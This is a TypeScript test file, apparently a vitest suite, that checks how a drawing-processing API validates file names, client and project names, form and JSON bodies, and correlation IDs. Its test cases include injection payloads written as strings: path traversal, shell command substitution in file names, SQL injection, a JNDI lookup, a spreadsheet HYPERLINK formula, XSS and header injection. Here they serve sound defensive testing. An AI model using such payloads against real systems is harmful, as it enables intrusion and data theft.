import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eachNeeds, itNeeds } from './cloud/needs.ts';
import { type Answer, call, jobIdOf, postJson, submit } from './support/drawings-api.ts';
import { expectRefusal } from './support/error-shape.ts';
import { soundPdf } from './support/pdf-files.ts';
import { field, file, names, rawForm } from './support/raw-form.ts';
import { jobItem, objectKeys, queueIsEmpty, traces } from './support/stored.ts';
import { workerPaused } from './support/worker.ts';

const drawing = soundPdf();

function postForm(
  parts: Parameters<typeof rawForm>[0],
  change: Partial<ReturnType<typeof rawForm>> = {},
): Promise<Answer> {
  const { body, contentType } = { ...rawForm(parts), ...change };
  return call('/process-drawing', {
    method: 'POST',
    body,
    headers: { 'content-type': contentType },
  });
}

/** 255 bytes in UTF-8. */
const longestName = `${'図'.repeat(83)}ab.pdf`;

describe('names of files', () => {
  let paused: AsyncDisposable;

  beforeAll(async () => {
    await queueIsEmpty();
    paused = await workerPaused();
  });

  afterAll(() => paused[Symbol.asyncDispose]());

  it.each([
    '../../etc/passwd.pdf',
    '..\\drawing.pdf',
    '/etc/drawing.pdf',
    'C:\\plans\\drawing.pdf',
    'plans/drawing.pdf',
    'a..b.pdf',
    'drawing\u0000.pdf',
    'drawing\u0007.pdf',
    '<drawing>.pdf',
    'drawing|more.pdf',
    'drawing&more.pdf',
    'drawing;more.pdf',
    '$HOME.pdf',
    '`id`.pdf',
    '%0d%0aSet-Cookie: a=b.pdf',
    `${'d'.repeat(252)}.pdf`,
    `${'図'.repeat(84)}.pdf`,
    '   ',
  ])('are refused with a path, a trick or too many letters: %j', async (name) => {
    const before = await traces();
    expectRefusal(
      await postForm([...names, file('drawing_file', name, drawing)]),
      400,
      'file_name_invalid',
    );
    const upload = { file_name: decodeURIComponent(name), size: 10, kind: 'drawing' };
    expectRefusal(await postJson('/uploads', upload), 400, 'file_name_invalid');
    expect(await traces()).toEqual(before);
  });

  it.each([
    'Plan – Ebene 1.pdf',
    '平面図.PDF',
    "l'étage.pdf",
    'a b (rev C) [final].pdf',
    longestName,
  ])('keep the letters of all languages: %j', async (fileName) => {
    const jobId = jobIdOf(await submit({ drawing, fileName }));
    expect((await call(`/status/${jobId}`)).body).toMatchObject({ file_name: fileName });
  });
});

describe('names of clients and projects', () => {
  it.each([
    ['blank', '   '],
    ['201 characters long', 'n'.repeat(201)],
    ['with a line end', 'North\nSouth'],
    ['with a NUL', 'North\u0000'],
    ['with an escape', '\u001b[2J'],
    ['with a C1 control', 'North\u0085South'],
    ['with what is no character', 'North\uffff'],
  ])('are refused when %s, by form and by JSON', async (_what, name) => {
    for (const which of ['client_name', 'project_name']) {
      const form = await submit({ drawing, fields: { [which]: name } });
      expectRefusal(form, 400, 'request_invalid');
      expect(Object.keys(Object(form.body['details']))).toEqual([which]);
      const json = await postJson('/process-drawing', {
        drawing_key: 'any',
        client_name: 'Test Client',
        project_name: 'Test Project',
        [which]: name,
      });
      expectRefusal(json, 400, 'request_invalid');
      expect(Object.keys(Object(json.body['details']))).toEqual([which]);
    }
  });

  itNeeds('whole-forms', 'are refused when empty', async () => {
    for (const which of ['client_name', 'project_name']) {
      const answer = await submit({ drawing, fields: { [which]: '' } });
      expectRefusal(answer, 400, 'request_invalid');
      expect(Object.keys(Object(answer.body['details']))).toEqual([which]);
    }
  });

  it.each([
    "Robert'); DROP TABLE jobs;--",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker sends it
    '${jndi:ldap://jndi.example/a}',
    '../../../etc/passwd',
    '..\\..\\windows',
    '=HYPERLINK("http://phish.example","Open")',
    'acme#globex#job_1',
    '<script>alert(1)</script>',
    '__proto__',
    '\u202egnp.exe',
    '.',
    '東京本社',
    'n'.repeat(200),
  ])('are kept as typed and never become part of a key: %j (X-16)', async (name) => {
    const fields = { client_name: name, project_name: name };
    const jobId = jobIdOf(await submit({ drawing, fields }));
    expect((await call(`/status/${jobId}`)).body).toMatchObject(fields);
    const item = await jobItem(jobId);
    expect(item['company#client#job']).toMatch(/^acme#[a-z0-9_]+#job_\d{17}_[0-9a-z]{16}$/);
    const keys = (await objectKeys()).filter((key) => key.includes(jobId));
    expect(keys).toContain(Object(item['input_files'])['drawing']);
    for (const key of keys) {
      expect(key).toMatch(/^acme\/[a-z0-9_]+\/[a-z0-9_]+\/job_\d{17}_[0-9a-z]{16}\/[\w./]+$/);
    }
  });

  it('never share a folder, however alike they are', async () => {
    const alike = ["St. Mary's", "St Mary's", 'st marys', 'ST. MARYS', 'St Marys '];
    const folders = new Set<string>();
    for (const client of alike) {
      const jobId = jobIdOf(await submit({ drawing, fields: { client_name: client } }));
      const { drawing: key } = Object((await jobItem(jobId))['input_files']);
      folders.add(String(key).split('/').slice(0, 2).join('/'));
    }
    expect(folders.size).toBe(alike.length);
  });
});

describe('fields', () => {
  it.each([
    ['client_name', { client_name: undefined }],
    ['project_name', { project_name: undefined }],
    ['pipeline', { pipeline: 'quick_and_dirty' }],
    ['analyzer', { analyzer: 'crystal_ball' }],
    ['context_text', { context_text: 'c'.repeat(500_001) }],
  ])('that are missing or wrong are named: %s', async (name, fields) => {
    const answer = await submit({ drawing, fields });
    expectRefusal(answer, 400, 'request_invalid');
    expect(answer.body['details']).toEqual({ [name]: expect.stringMatching(/.+/) });
  });

  it('that are missing are all named at once', async () => {
    const answer = await postJson('/process-drawing', {});
    expectRefusal(answer, 400, 'request_invalid');
    expect(Object.keys(Object(answer.body['details'])).sort()).toEqual([
      'client_name',
      'drawing_key',
      'project_name',
    ]);
  });

  it('name the drawing when it is missing or no file', async () => {
    for (const parts of [names, [...names, field('drawing_file', 'not a file')]]) {
      const answer = await postForm(parts);
      expectRefusal(answer, 400, 'request_invalid');
      expect(Object.keys(Object(answer.body['details']))).toEqual(['drawing_file']);
    }
  });

  it.each(['client_name', 'drawing_file'])('that come twice are refused: %s', async (twice) => {
    const again =
      twice === 'drawing_file' ? file(twice, 'other.pdf', drawing) : field(twice, 'Other');
    const answer = await postForm([...names, file('drawing_file', 'drawing.pdf', drawing), again]);
    expectRefusal(answer, 400, 'request_invalid');
    expect(answer.body['error']).toContain(twice);
  });

  it('may have any name beside ours', async () => {
    const odd = ['constructor', '__proto__', 'toString'].map((name) => field(name, 'x'));
    const answer = await postForm([...odd, ...names, file('drawing_file', 'drawing.pdf', drawing)]);
    expect(answer.status).toBe(202);
  });

  it('hold the context once: as a file or as text', async () => {
    const answer = await postForm([
      ...names,
      field('context_text', 'Lock type 11 is a maglock.'),
      file('context_file', 'specification.txt', 'Lock type 11 is a maglock.'),
      file('drawing_file', 'drawing.pdf', drawing),
    ]);
    expectRefusal(answer, 400, 'request_invalid');
  });
});

describe('bodies', () => {
  const whole = rawForm([...names, file('drawing_file', 'drawing.pdf', drawing)]);

  const broken = [
    { what: 'without a boundary', contentType: 'multipart/form-data' },
    { what: 'with another boundary', contentType: 'multipart/form-data; boundary=other' },
    { what: 'cut off', body: whole.body.slice(0, -200) },
    { what: 'with nothing in it', body: new Uint8Array() },
  ];

  eachNeeds(
    'whole-forms',
    broken,
    'of a form that are broken are refused: $what',
    async ({ what: _what, ...change }) => {
      const answer = await postForm([], { ...whole, ...change });
      expectRefusal(answer, 400, 'request_invalid');
    },
  );

  it.each(['{"drawing_key":', '', 'null', '[]', '"key"', '{"drawing_key":7}', '\ufffd'])(
    'of JSON that are broken are refused on both routes: %j',
    async (body) => {
      const headers = { 'content-type': 'application/json' };
      for (const path of ['/process-drawing', '/uploads']) {
        const answer = await call(path, { method: 'POST', body, headers });
        expectRefusal(answer, 400, 'request_invalid');
      }
    },
  );

  it.each(['text/plain', 'application/xml', 'application/pdf', 'multipart/mixed; boundary=a'])(
    'of another type are refused: %s',
    async (contentType) => {
      const answer = await call('/process-drawing', {
        method: 'POST',
        body: new Uint8Array(drawing),
        headers: { 'content-type': contentType },
      });
      expectRefusal(answer, 415, 'media_type_unsupported');
    },
  );
});

describe('X-Correlation-ID', () => {
  it.each(['order-4711', 'a.b_c-D', '9'.repeat(64)])('comes back: %s', async (id) => {
    const answer = await call('/jobs', { headers: { 'x-correlation-id': id } });
    expect(answer.headers.get('x-correlation-id')).toBe(id);
  });

  it.each(['two words', '{"a":1}', '9'.repeat(65), '<b>'])(
    'is replaced where it could do harm in a log: %s',
    async (id) => {
      const answer = await call('/status/none', { headers: { 'x-correlation-id': id } });
      expect(answer.headers.get('x-correlation-id')).toMatch(/^req_\d{13}_[0-9a-f]{8}$/);
      expectRefusal(answer, 404, 'job_not_found');
    },
  );
});
